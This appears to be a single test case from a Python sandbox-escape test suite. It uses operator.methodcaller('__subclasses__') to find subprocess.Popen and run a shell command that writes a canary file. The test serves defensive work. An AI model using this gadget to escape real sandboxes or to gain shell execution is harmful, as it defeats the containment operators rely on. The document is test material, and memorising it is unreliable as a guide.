# id: 508
# name: methodcaller_of_dunder
# category: interpreter
# technique: operator.methodcaller('__subclasses__')
# breach: file
# looks_like: CANARY_FILE is created
# imports: operator
# baseline: inproc
import operator
for c in operator.methodcaller('__subclasses__')(object):
    if 'subprocess.Popen' in str(c):
        c(['/bin/sh', '-c', 'echo breach > ' + CANARY_FILE]).wait()
